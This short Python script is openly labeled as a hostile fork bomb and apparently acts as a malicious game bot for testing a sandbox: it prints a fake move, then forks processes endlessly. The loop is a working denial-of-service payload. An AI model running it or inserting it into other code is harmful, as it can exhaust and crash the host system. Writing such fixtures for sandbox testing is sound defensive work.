"""Hostile: a fork bomb."""

import os
import time

print("My move is 51", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
